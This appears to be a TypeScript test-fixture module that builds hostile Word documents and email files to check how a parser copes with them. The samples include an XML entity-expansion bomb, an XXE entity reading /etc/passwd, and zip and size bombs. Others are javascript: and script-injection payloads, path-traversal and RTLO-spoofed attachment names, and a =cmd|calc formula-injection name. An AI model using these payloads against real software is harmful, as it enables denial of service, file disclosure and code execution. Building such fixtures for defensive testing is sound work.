// Word documents and mails made to hurt: one for each lesson that their readers had to learn.
import { strToU8, zipSync } from 'fflate';
import {
  asBytes,
  attachedPart,
  madeMail,
  mailHead,
  mailOf,
  multipart,
  textPart,
} from '../support/made-up-mail.ts';
import { packDocx, paragraph, run, wordNamespace } from '../support/made-up-docx.ts';
import { scriptThatTells, type HostileFile } from './hostile-pdfs.ts';

const says = 'The shelter was open to nobody in the winter of that year, said the staff.';
const spoken = paragraph(run(says));

/** `full` adds what takes long or much memory. */
export function hostileOffice(full: boolean): readonly HostileFile[] {
  const files = { ...documents(full), ...mails(full) };
  return Object.entries(files).map(([name, bytes]) => ({ name, bytes }));
}

function documents(full: boolean): Readonly<Record<string, Uint8Array>> {
  const whole = packDocx(spoken);
  const main = (text: string) => packDocx('', { 'word/document.xml': text });
  const entities = Array.from(
    { length: 9 },
    (_, i) => `<!ENTITY a${i + 1} "${`&a${i};`.repeat(10)}">`,
  ).join('');
  const times = (count: number) => (full ? count : Math.ceil(count / 20));
  return {
    'entities.docx': main(`<!DOCTYPE a [<!ENTITY a0 "aaaaaaaaaa">${entities}]><a>&a9;</a>`),
    'outside.docx': main('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'),
    'nested.docx': packDocx('<w:p>'.repeat(10_000) + '</w:p>'.repeat(10_000)),
    'tables-in-tables.docx': packDocx(
      `${'<w:tbl><w:tr><w:tc>'.repeat(90)}${spoken}${'</w:tc></w:tr></w:tbl>'.repeat(90)}`,
    ),
    'bomb.docx': packDocx(paragraph(run(' '.repeat(full ? 300_000_000 : 101_000_000)))),
    'paragraphs.docx': packDocx('<w:p/>'.repeat(times(2_000_000))),
    'ends-deleted.docx': packDocx(
      paragraph('<w:pPr><w:rPr><w:del/></w:rPr></w:pPr>', run('word ')).repeat(times(300_000)),
    ),
    'fields-begun.docx': packDocx(
      paragraph('<w:r><w:fldChar w:fldCharType="begin"/></w:r>'.repeat(5_000), run(says)) + spoken,
    ),
    'spans.docx': packDocx(
      `<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="999999999"/><w:vMerge w:val="restart"/></w:tcPr>${spoken}</w:tc><w:tc>${spoken}</w:tc></w:tr></w:tbl>`,
    ),
    'numbers.docx': packDocx(
      paragraph('<w:pPr><w:numPr><w:numId w:val="1"/></w:numPr></w:pPr>', run(says)),
      {
        'word/numbering.xml': `<w:numbering xmlns:w="${wordNamespace}"><w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="0"><w:start w:val="2147483647"/><w:numFmt w:val="lowerLetter"/><w:lvlText w:val="%1%1%1%1"/></w:lvl></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num></w:numbering>`,
      },
    ),
    'styles-in-a-circle.docx': packDocx(
      paragraph('<w:pPr><w:pStyle w:val="a"/></w:pPr>', run(says)),
      {
        'word/styles.xml': `<w:styles xmlns:w="${wordNamespace}"><w:style w:styleId="a"><w:basedOn w:val="b"/></w:style><w:style w:styleId="b"><w:basedOn w:val="a"/></w:style></w:styles>`,
      },
    ),
    'markup.docx': packDocx(
      paragraph(
        run(`&lt;script&gt;${scriptThatTells}&lt;/script&gt;`),
        '<w:hyperlink r:id="r1"><w:r><w:t>a link</w:t></w:r></w:hyperlink>',
      ),
      {
        'word/_rels/document.xml.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" TargetMode="External" Target="javascript:${scriptThatTells.replaceAll("'", '&apos;')}"/><Relationship Id="r2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" TargetMode="External" Target="https://hostile.invalid/x.dotm"/></Relationships>`,
      },
    ),
    'macros.docm': packDocx(spoken, { 'word/vbaProject.bin': 'Sub AutoOpen()' }),
    'checksum.docx': patched(whole, whole.length - 22 - 46 - 'word/document.xml'.length + 16),
    'size.docx': patched(whole, whole.length - 22 - 46 - 'word/document.xml'.length + 24),
    'sixty-four.docx': patched(whole, whole.length - 6),
    'cut.docx': whole.slice(0, -40),
    'twice.docx': new Uint8Array(
      zipSync({ 'word/document.xml': strToU8('<a/>'), 'WORD/document.xml': strToU8('<b/>') }),
    ),
    'sheet.xlsx': new Uint8Array(zipSync({ 'xl/workbook.xml': strToU8('<workbook/>') })),
    'open.odt': new Uint8Array(
      zipSync({ mimetype: strToU8('application/vnd.oasis.opendocument.text') }),
    ),
    'locked.docx': asBytes(
      `\xd0\xcf\x11\xe0${Array.from('EncryptedPackage', (sign) => `${sign}\0`).join('')}`,
    ),
    'old.doc': asBytes(`\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1${'\0'.repeat(600)}`),
    'rich.rtf': asBytes(`{\\rtf1 ${says}}`),
  };
}

/** Four bytes that claim as much as they can. */
function patched(bytes: Uint8Array<ArrayBuffer>, at: number): Uint8Array {
  const copy = bytes.slice();
  new DataView(copy.buffer).setUint32(at, 0xffffffff, true);
  return copy;
}

function mails(full: boolean): Readonly<Record<string, Uint8Array>> {
  const text = textPart(says);
  let deep = text;
  for (let depth = 0; depth < 200; depth++) deep = multipart('mixed', [deep], `b${depth}`);
  let within = madeMail('The innermost', text);
  for (let depth = 0; depth < 12; depth++) {
    const forwarded = { head: ['Content-Type: message/rfc822'], body: binary(within) };
    within = madeMail(`Forwarded ${depth}`, multipart('mixed', [text, forwarded], `f${depth}`));
  }
  const named = (disposition: string) => ({
    head: ['Content-Type: text/plain', `Content-Disposition: attachment; ${disposition}`],
    body: `${says} ${disposition}`,
  });
  const page = `<script>${scriptThatTells}</script><img src="https://hostile.invalid/x.png" onerror="${scriptThatTells}"><p>${says}</p>`;
  const many = Array.from({ length: 10_000 }, () => ({ head: [], body: 'x' }));
  return {
    'parts-10000.eml': madeMail('Many', multipart('mixed', many)),
    'deep.eml': madeMail('Deep', deep),
    'within.eml': within,
    'header.eml': Buffer.from(
      `Subject: ${'a'.repeat(full ? 100_000_000 : 3_000_000)}\r\n\r\n${says}`,
    ),
    'fields.eml': Buffer.from(`${'Received: x\r\n'.repeat(full ? 2_000_000 : 200_000)}\r\n${says}`),
    'no-boundary.eml': mailOf([...mailHead, 'Content-Type: multipart/mixed'], says),
    'own-boundary.eml': madeMail('Own', multipart('mixed', [multipart('mixed', [text])])),
    'dashes.eml': mailOf(
      [...mailHead, 'Content-Type: multipart/mixed; boundary="-"'],
      `---\r\n\r\n${says}\r\n----\r\n${'---\r\n'.repeat(5_000)}`,
    ),
    'charset.eml': madeMail('Charset', textPart(says, 'text/plain; charset="../../nobody"')),
    'utf-7.eml': madeMail('Utf-7', textPart('+ADw-script+AD4-', 'text/plain; charset=utf-7')),
    'words.eml': madeMail(`${'=?utf-8?b?4oCu?='.repeat(5_000)} ${'=?x?q?'.repeat(5_000)}`, text),
    'parameters.eml': madeMail('Parameters', {
      head: [
        `Content-Type: text/plain; ${Array.from({ length: 20_000 }, (_, i) => `a*${i}=b`).join('; ')}`,
      ],
      body: says,
    }),
    'names.eml': madeMail(
      'Names \u202e',
      multipart('mixed', [
        text,
        named('filename="../../../etc/passwd"'),
        named("filename*=utf-8''user%E2%80%AEfdp.exe"),
        named(`filename="${'n'.repeat(300)}.txt"`),
        named('filename="CON"'),
        named('filename="=cmd|calc!A1.txt"'),
        named('filename="\\"><img src=x onerror=alert(1)>.txt"'),
      ]),
    ),
    'page.eml': madeMail('Page', textPart(page, 'text/html; charset=utf-8')),
    'documents.eml': madeMail(
      'Documents',
      multipart('mixed', [
        text,
        attachedPart('entities.docx', packDocx('', { 'word/document.xml': '<!DOCTYPE a><a/>' })),
        attachedPart('good.docx', packDocx(paragraph(run(`${says} It was attached.`)))),
        attachedPart('winmail.dat', 'x\x9f>"', 'application/ms-tnef'),
      ]),
    ),
    'encrypted.eml': madeMail('Encrypted', multipart('encrypted', [attachedPart('a.asc', 'x')])),
    'base64.eml': madeMail('Base64', {
      head: ['Content-Type: text/plain', 'Content-Transfer-Encoding: base64'],
      body: `====${'!'.repeat(100_000)}VGhl===`,
    }),
    'quotes.eml': madeMail('Quotes', textPart(`${'>'.repeat(200_000)} ${says}\n`.repeat(3))),
  };
}

function binary(bytes: Uint8Array): string {
  return Buffer.from(bytes).toString('latin1');
}
